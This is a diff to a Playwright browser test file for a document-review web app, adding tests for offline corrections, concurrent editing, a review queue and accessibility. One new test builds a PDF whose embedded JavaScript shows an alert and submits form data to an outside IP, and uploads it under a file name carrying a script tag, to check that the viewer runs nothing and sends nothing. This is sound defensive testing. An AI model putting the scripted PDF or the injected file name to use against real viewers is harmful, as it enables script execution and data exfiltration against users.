@@ -10,6 +10,29 @@ const PDF = join(ROOT, 'samples', 'pdf', 'table-over-page-break.pdf');
 const TEXT = join(ROOT, 'samples', 'text', 'shifted-columns.txt');
 const LONG_MS = 60_000;
 
+/** Addresses with what is to be seen there. */
+const VIEWS = [
+  ['#/documents', 'table.list tbody tr'],
+  ['#/review', 'table.list tbody tr'],
+  ['#/queue', '.figure'],
+  ['#/compare', 'select'],
+  [`#/agencies/${encodeURIComponent('临河县教育体育局')}`, '.chart'],
+] as const;
+
+/** Opens with a script and holds a link and a form that would send; its table of contents is left to the reader to mend. */
+const SCRIPTED_PDF = `%PDF-1.7
+1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AcroForm<</Fields[6 0 R]>>>> endobj
+2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
+3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Annots[6 0 R]/AA<</O 5 0 R>>
+  /Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>> endobj
+4 0 obj <</Length 44>> stream
+BT /F1 18 Tf 40 200 Td (Annual report 2021) Tj ET
+endstream endobj
+5 0 obj <</S/JavaScript/JS(app.alert\\('owned'\\); this.submitForm\\('http://203.0.113.1/'\\);)>> endobj
+6 0 obj <</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[40 40 200 60]/AA<</F 5 0 R/K 5 0 R>>>> endobj
+trailer <</Root 1 0 R>>
+%%EOF`;
+
 if (WHY_SKIPPED !== null) console.warn(`Browser tests are skipped: ${WHY_SKIPPED}`);
 const describeInBrowser = WHY_SKIPPED === null ? describe : describe.skip;
 
@@ -29,9 +52,10 @@ describeInBrowser('the app in a browser', () => {
       await page.keyboard.press('j');
       const selected = page.locator('td[aria-selected="true"]');
       const id = (await selected.getAttribute('data-field')) ?? '';
+      await page.keyboard.press('e');
+      await page.keyboard.press('Escape');
       const doubtful = page.getByTestId('doubtful-count');
       const before = await doubtful.textContent();
-      await page.keyboard.press('e');
       await page.keyboard.type('4711');
       await page.waitForSelector('[data-testid="identities"] [data-state="fails"]');
       await page.keyboard.press('Enter');
@@ -67,6 +91,109 @@ describeInBrowser('the app in a browser', () => {
         await mark.waitFor();
         expect(await textUnder(mark)).toBe(await cell.textContent());
       }
+      await page.close();
+    },
+    LONG_MS,
+  );
+
+  test(
+    'an answer that cannot be sent is kept through a reload and sent then',
+    async () => {
+      const page = await app.newPage();
+      await uploadFile(page, app.address, TEXT);
+      await openUploaded(page);
+      await page.route('**/corrections', (route) => route.abort());
+      const selected = page.locator('td[aria-selected="true"]');
+      const id = (await selected.getAttribute('data-field')) ?? '';
+      await page.keyboard.press('Enter');
+      await page.getByRole('alert').waitFor();
+      await page.unroute('**/corrections');
+      const sent = page.waitForResponse('**/corrections');
+      await page.reload();
+      expect((await sent).status()).toBe(201);
+      await page.waitForSelector(`td[data-field="${id}"].band-settled`);
+      await page.close();
+    },
+    LONG_MS,
+  );
+
+  test(
+    'two people who have a document open are told, and the second answer to a field is refused',
+    async () => {
+      const ann = await app.newPage();
+      await uploadFile(ann, app.address, SLIP);
+      await openUploaded(ann);
+      const ben = await app.newPage();
+      await ben.route('**/api/events*', (route) => route.abort());
+      await ben.goto(ann.url());
+      await ben.waitForSelector('td[aria-selected="true"]');
+      const key = 'field:applications.granted.natural_person';
+      for (const page of [ann, ben]) {
+        await page.click('#tab-applications');
+        await page.click(`td[data-field="${key}"]`);
+      }
+      await ann.keyboard.press('Enter');
+      await ann.waitForSelector(`td[data-field="${key}"].band-settled`);
+      await ben.click(`td[data-field="${key}"]`);
+      await ben.keyboard.type('5');
+      await ben.keyboard.press('Enter');
+      await ben.getByText('Somebody else has settled this field').waitFor();
+      await expect(ben.locator(`td[data-field="${key}"]`).textContent()).resolves.toBe('10');
+      await ben.unroute('**/api/events*');
+      await ben.reload();
+      await ann.getByText('also open elsewhere: 1').waitFor();
+      await ann.close();
+      await ben.close();
+    },
+    LONG_MS,
+  );
+
+  test(
+    'n goes through the documents with questions, and the queue remembers what was asked for',
+    async () => {
+      const page = await app.newPage();
+      await page.goto(`${app.address}/#/review`);
+      await page.waitForSelector('table.list tbody tr');
+      const names = await page.locator('table.list tbody tr a').allTextContents();
+      expect(names.length).toBeGreaterThanOrEqual(2);
+      await page.keyboard.press('n');
+      await page.waitForSelector('td[data-field]');
+      const first = page.url();
+      await page.keyboard.press('n');
+      await page.waitForURL((url) => url.href !== first);
+      await page.getByRole('link', { name: 'Review', exact: true }).click();
+      await page.getByLabel('Agency or region').fill('没有这样的机关');
+      await page.getByText('No open question matches.').waitFor();
+      await page.reload();
+      await page.getByText('No open question matches.').waitFor();
+      await page.close();
+    },
+    LONG_MS,
+  );
+
+  test(
+    'a PDF with a script of its own runs nothing and asks nobody',
+    async () => {
+      const page = await app.newPage();
+      const asked: string[] = [];
+      let dialogs = 0;
+      page.on('request', (request) => asked.push(request.url()));
+      page.on('dialog', (dialog) => {
+        dialogs += 1;
+        void dialog.dismiss();
+      });
+      await page.goto(`${app.address}/#/documents`);
+      const buffer = Buffer.from(SCRIPTED_PDF, 'latin1');
+      await page.setInputFiles('input[type=file]', {
+        name: 'a"b<script>.pdf',
+        mimeType: 'application/pdf',
+        buffer,
+      });
+      await page.waitForSelector('[data-testid="upload-progress"][data-done="yes"]');
+      await page.click('[data-testid="upload-progress"] a');
+      await page.waitForSelector('.source-page[data-drawn="yes"]');
+      expect(dialogs).toBe(0);
+      expect(asked.filter((url) => !url.startsWith(app.address) && !/^(blob|data):/.test(url))).toEqual([]);
       await page.close();
     },
     LONG_MS,
@@ -141,9 +268,12 @@ describeInBrowser('the app in a browser', () => {
       await page.waitForSelector('.figure');
       expect(await page.getAttribute('html', 'data-theme')).toBe(colorScheme);
       expect(await seriousViolations(page)).toEqual([]);
+      for (const [place, shown] of VIEWS) {
+        await page.goto(`${app.address}/${place}`);
+        await page.waitForSelector(shown);
+        expect(await seriousViolations(page)).toEqual([]);
+      }
       await page.goto(`${app.address}/#/documents`);
-      await page.waitForSelector('table.list tbody tr');
-      expect(await seriousViolations(page)).toEqual([]);
       await page.click('table.list tbody a');
       await page.waitForSelector('.form-side td');
       expect(await seriousViolations(page)).toEqual([]);
@@ -155,7 +285,7 @@ describeInBrowser('the app in a browser', () => {
 
 async function openUploaded(page: Page): Promise<void> {
   await page.click('[data-testid="upload-progress"] a');
-  await page.waitForSelector('td[aria-selected="true"]');
+  await page.waitForSelector('td[data-field]');
 }
 
 /** The number under this key in the records that the API exports. */
